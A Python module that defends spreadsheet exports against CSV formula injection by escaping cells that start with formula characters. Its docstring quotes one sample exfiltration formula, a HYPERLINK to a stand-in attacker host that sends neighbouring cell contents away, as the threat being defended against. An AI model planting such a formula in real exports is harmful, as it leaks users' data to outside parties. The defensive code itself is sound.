"""Text that a spreadsheet must show, never run (CSV/formula injection, OWASP).

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@``
(also after leading spaces, tabs or line breaks, and a cell that starts with a tab or carriage
return) as a formula: ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` in an audit reason would
send the neighbouring cells away when clicked. Every export that a spreadsheet may open (audit
CSV/XLSX, the access package's CSV files) passes its text through :func:`formula_safe`, which puts
an apostrophe in front of such text — the usual defence (as in ``defusedcsv``): spreadsheets show
the text as it is. Signed numbers and phone numbers (``-5``, ``+81 3-1234-5678``) stay as they are:
digits and signs alone cannot call a function.
"""

from __future__ import annotations

import re

# Characters that make (or, after leading whitespace, may make) a cell a formula.
_RISKY_FIRST = frozenset("=+-@\t\r\n ")
_WHITESPACE = " \t\r\n"
_SIGNED_NUMBER = re.compile(r"[+-][\d\s().\-+]*")


def formula_risky(text: str) -> bool:
    """True when a spreadsheet could read ``text`` as a formula."""
    if not text or text[0] not in _RISKY_FIRST:
        return False
    if text[0] in "\t\r":
        return True
    rest = text.lstrip(_WHITESPACE)
    if not rest:
        return False
    first = rest[0]
    if first in "=@":
        return True
    return first in "+-" and not _SIGNED_NUMBER.fullmatch(rest)


def formula_safe(text: str) -> str:
    """``text`` with an apostrophe in front when a spreadsheet could read it as a formula."""
    return "'" + text if formula_risky(text) else text
